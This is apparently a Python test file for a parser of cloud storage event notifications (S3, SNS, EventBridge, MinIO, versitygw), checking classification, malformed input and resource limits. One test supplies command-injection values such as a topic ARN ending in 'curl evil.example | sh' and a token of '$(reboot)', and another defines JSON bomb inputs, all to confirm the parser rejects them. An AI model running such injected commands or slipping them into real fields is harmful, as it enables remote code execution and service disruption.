"""What the bodies of events mean, those of vendors and those of people who mean harm."""

from __future__ import annotations

import json
import time
import tracemalloc
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fineline_operator.uploads.messages import MAX_BYTES, MAX_RECORDS, Meaning, ObjectName, read_message
from support import bucket_events as events

KEY = "amber/step 1+2/räder%20.safetensors"


def keys(body: str | bytes) -> set[str]:
    message = read_message(body)
    assert message.meaning is Meaning.CHANGED
    assert {name.bucket for name in message.objects} == {"bucket"}
    return {name.key for name in message.objects}


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(events.aws("bucket", KEY), id="S3"),
        pytest.param(events.sns(events.aws("bucket", KEY)), id="S3 in SNS"),
        pytest.param(events.event_bridge("bucket", KEY), id="EventBridge"),
        pytest.param(events.sns(events.event_bridge("bucket", KEY)), id="EventBridge in SNS"),
        pytest.param(events.minio("bucket", KEY), id="MinIO"),
        pytest.param(events.versitygw("bucket", KEY), id="versitygw"),
        pytest.param(events.aws("bucket", KEY, event="ObjectCreated:CompleteMultipartUpload"), id="multipart"),
        pytest.param(events.aws("bucket", KEY, event="ObjectRemoved:Delete"), id="removed"),
        pytest.param(events.event_bridge("bucket", KEY, "Object Deleted"), id="removed, EventBridge"),
        pytest.param(events.aws("bucket", KEY).encode(), id="bytes"),
    ],
)
def test_every_sender_s_key_is_read_however_it_writes_it(body: str | bytes) -> None:
    assert KEY in keys(body)


def test_event_bridge_s_keys_are_read_in_one_way_only() -> None:
    assert keys(events.event_bridge("bucket", "a%2Fb+c")) == {"a%2Fb+c"}


def test_a_key_that_may_be_written_or_meant_so_is_taken_in_each_way() -> None:
    assert keys(events.versitygw("bucket", "a%2Fb+c")) == {"a%2Fb+c", "a/b c", "a/b+c"}


def test_an_encoded_key_that_is_no_text_is_taken_as_it_is() -> None:
    assert keys(events.versitygw("bucket", "a/%ff%fe")) == {"a/%ff%fe"}


def test_several_records_are_read_at_once_and_broken_ones_among_them_left_out() -> None:
    records: list[Any] = [events.aws_record("bucket", "a"), 7, {}, {"s3": []}, events.aws_record("bucket", "b")]
    records += [{"s3": {"bucket": {"name": 1}, "object": {"key": "c"}}}, {"s3": {"bucket": {"name": "bucket"}}}]
    assert keys(json.dumps({"Records": records})) == {"a", "b"}


@pytest.mark.parametrize(
    ("body", "meaning"),
    [
        (events.aws_test(), Meaning.TEST),
        (events.sns(events.aws_test()), Meaning.TEST),
        (events.versitygw_test(), Meaning.TEST),
        (events.minio("bucket", "a/b", "s3:ObjectAccessed:Get"), Meaning.UNCHANGED),
        (events.minio("bucket", "a/b", "s3:ObjectAccessed:Head"), Meaning.UNCHANGED),
        (events.aws("bucket", "a/b", event="ObjectTagging:Put"), Meaning.UNCHANGED),
        (events.aws("bucket", "a/b", event="ObjectAcl:Put"), Meaning.UNCHANGED),
        (events.event_bridge("bucket", "a/b", "Object Tags Added"), Meaning.UNCHANGED),
        (json.dumps({"Records": [events.aws_record("b", "k")] * (MAX_RECORDS + 1)}), Meaning.TOO_LARGE),
        (" " * (MAX_BYTES + 1), Meaning.TOO_LARGE),
    ],
)
def test_what_changes_no_object_is_told_apart(body: str, meaning: Meaning) -> None:
    assert read_message(body).meaning is meaning


def test_who_reads_an_object_wakes_nobody_but_a_write_beside_it_does() -> None:
    records = [events.aws_record("bucket", "read", "ObjectAccessed:Get"), events.aws_record("bucket", "written")]
    assert keys(json.dumps({"Records": records})) == {"written"}


@pytest.mark.parametrize("kind", ["SubscriptionConfirmation", "UnsubscribeConfirmation"])
def test_a_question_of_sns_says_what_a_person_has_to_do_and_shows_no_url_of_it(kind: str) -> None:
    message = read_message(events.sns_question(kind))
    assert message.meaning is Meaning.CONFIRMATION
    assert events.TOPIC in message.remedy
    assert "http" not in message.remedy
    confirms = f"aws sns confirm-subscription --topic-arn {events.TOPIC} --token {events.TOKEN}"
    assert (confirms in message.remedy) == (kind == "SubscriptionConfirmation")


@pytest.mark.parametrize(
    "further",
    [
        {"TopicArn": "arn:aws:sns:us-west-2:123456789012:uploads; curl evil.example | sh"},
        {"TopicArn": "arn:aws:sns:us-west-2:123456789012:uploads\nERROR all is lost"},
        {"Token": "$(reboot)"},
        {"Token": ["a"]},
        {"TopicArn": None},
    ],
)
def test_a_question_in_which_somebody_hides_a_command_is_not_repeated(further: dict[str, Any]) -> None:
    message = read_message(events.sns_question(**further))
    assert (message.meaning, message.remedy) == (Meaning.UNKNOWN, "")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"\xff\xfe\x00",
        b"\xef\xbb\xbf{}",
        "null",
        "[]",
        '"text"',
        "{}",
        '{"Records": []}',
        '{"Records": {}}',
        '{"Records": [null]}',
        '{"Records": NaN}',
        '{"Records": [{"s3": {"bucket": {"name": ""}, "object": {"key": "a"}}}]}',
        '{"Records": [{"s3": {"bucket": {"name": "b"}, "object": {"key": ""}}}]}',
        '{"Records": [{"s3": {"bucket": {"name": "b"}, "object": {"key": "\\ud800"}}}]}',
        '{"Type": "Notification", "Message": 7}',
        '{"Type": "Notification"}',
        '{"detail-type": "Object Created", "source": "my.own", "detail": {}}',
        '{"detail-type": ["Object Created"], "source": "aws.s3", "detail": 3}',
        events.event_bridge("bucket", "a").replace("aws.s3", "aws.ec2"),
        json.dumps({"Records": [events.aws_record("b" * 256, "k")]}),
        json.dumps({"Records": [events.aws_record("b", "k" * 4097)]}),
        "<xml/>",
    ],
)
def test_anything_else_is_unknown(body: bytes | str) -> None:
    assert read_message(body).meaning is Meaning.UNKNOWN


def test_envelopes_in_envelopes_end() -> None:
    body = events.aws("bucket", "a/b")
    assert read_message(events.sns(events.sns(body))).meaning is Meaning.CHANGED
    assert read_message(events.sns(events.sns(events.sns(body)))).meaning is Meaning.UNKNOWN


def test_the_last_of_two_values_of_one_name_counts() -> None:
    body = '{"Records": 1, "Records": [{"s3": {"bucket": {"name": "x", "name": "bucket"}, "object": {"key": "a"}}}]}'
    assert keys(body) == {"a"}


def _filled(begin: str, part: str, end: str) -> str:
    return begin + part * ((MAX_BYTES - len(begin) - len(end)) // len(part)) + end


BOMBS = {
    "arrays in arrays": _filled("", "[", ""),
    "objects in objects": _filled("", '{"a":', ""),
    "arrays in Records": _filled('{"Records": ', "[", ""),
    "many empty arrays": _filled('{"Records": [', "[],", "[]]}"),
    "many names": _filled("{", '"a":1,', '"Records":[]}'),
    "a number of digits": _filled('{"Records": ', "9", "}"),
    "numbers of digits": _filled('{"Records": [', "9" * 4_000 + ",", "1]}"),
    "a huge exponent": '{"Records": [1e999999999]}',
    "escapes": _filled('{"Type": "Notification", "Message": "', "\\u0041", '"}'),
    "quotes in quotes": _filled('{"Type": "Notification", "Message": "', '\\"', '"}'),
    "small records": _filled('{"Records": [', '{"s3":{"bucket":{"name":"b"},"object":{"key":"k"}}},', "{}]}"),
    "percent signs": json.dumps({"Records": [events.aws_record("b", "k") | {
        "s3": {"bucket": {"name": "b"}, "object": {"key": "%2F+" * 1024}}}] * 50}),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_costs_little_time_and_memory(name: str) -> None:
    tracemalloc.start()
    began = time.thread_time()
    message = read_message(BOMBS[name])
    seconds = time.thread_time() - began
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert message.meaning in (Meaning.UNKNOWN, Meaning.TOO_LARGE) or name == "percent signs"
    assert peak < 32 * 2**20
    assert seconds < 2  # a hundredth of it; but nothing that grows as a square


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(
            ("Records", "s3", "bucket", "object", "name", "key", "Type", "Message", "Event", "detail-type", "detail",
             "source", "eventName", "Token", "TopicArn")
        ), inner, max_size=5,
    ),
)  # fmt: skip


@given(JSON)
def test_no_json_is_too_odd(value: Any) -> None:
    message = read_message(json.dumps(value))
    assert bool(message.objects) == (message.meaning is Meaning.CHANGED)


@given(st.binary() | st.text())
def test_no_bytes_are_too_odd(body: bytes | str) -> None:
    read_message(body)


@given(st.text(min_size=1, max_size=200).filter(lambda key: key.isprintable()))
def test_every_key_is_found_again_in_the_bodies_of_every_sender(key: str) -> None:
    for body in (events.aws, events.minio, events.versitygw, events.event_bridge):
        assert ObjectName("bucket", key) in read_message(body("bucket", key)).objects
